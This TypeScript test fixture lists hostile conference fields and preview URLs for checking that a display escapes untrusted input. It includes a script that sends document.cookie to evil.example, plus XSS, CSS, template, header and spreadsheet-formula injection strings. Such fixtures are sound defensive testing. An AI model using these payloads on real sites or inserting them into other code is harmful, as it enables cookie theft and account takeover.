import type { SentConference } from '#contract/conference.ts';

const SCRIPT = '</style><script>fetch("https://evil.example/?"+document.cookie)</script>';

/**
 * What a customer could put into a conference to harm whoever looks at it. Every value still has the published
 * type. The first one stands in the small demo too.
 */
export const HOSTILE_PATCHES: readonly Partial<SentConference>[] = [
  {
    display_name: '<script>alert("callboard")</script> Quiz night',
    description: '<img src=x onerror=alert(1)>\u202Etxt.exe\u202C {{constructor.constructor("alert(1)")()}}',
    dark_primary: 'red;}body{display:none}',
    dark_background: 'url(https://evil.example/x.png)',
    dark_foreground: '#12',
    light_primary: '#GGGGGG',
    light_negative: SCRIPT,
    meta: {
      html: '<b onmouseover=alert(1)>hover</b>',
      link: 'javascript:alert(1)',
      'a\u202Eb': '\u0000\u0007',
    },
  },
  {
    display_name: `\u202E${SCRIPT}\u202C`,
    description: '=HYPERLINK("https://evil.example","click")',
    dark_success: '🟥',
    dark_negative: 'expression(alert(1))',
    light_background: '',
    light_foreground: 'var(--x,url(//evil.example))',
    meta: { '</script>': '<!--', formula: '@SUM(1+1)*cmd|calc' },
  },
  {
    display_name: 'Ｗ'.repeat(200),
    description: 'a'.repeat(3000),
    light_primary: '#'.repeat(10_000),
    dark_background: `#000000;background:url(https://evil.example/${'x'.repeat(200)})`,
    meta: { ['k'.repeat(500)]: 'v'.repeat(10_000) },
  },
  {
    display_name: 'Z̷̢̛͎̭͖̲͋a̶̧̹͇͒͐l̵̝̔g̸̰͝o̴̯̾ \u200B\u2066\u2067 room',
    description: '\r\nSet-Cookie: x=1\r\n\r\n<svg/onload=alert(1)>',
    dark_primary: '#044EF4\n',
    light_success: ' #17BB58',
  },
];

/** Preview addresses that must never become a link or an image. */
export const HOSTILE_PREVIEWS: readonly string[] = [
  'javascript:alert(document.domain)',
  'https://evil.example/previews/x.webp',
  'data:image/svg+xml,<svg onload="alert(1)"/>',
  'http://127.0.0.1.evil.example/x.webp',
];
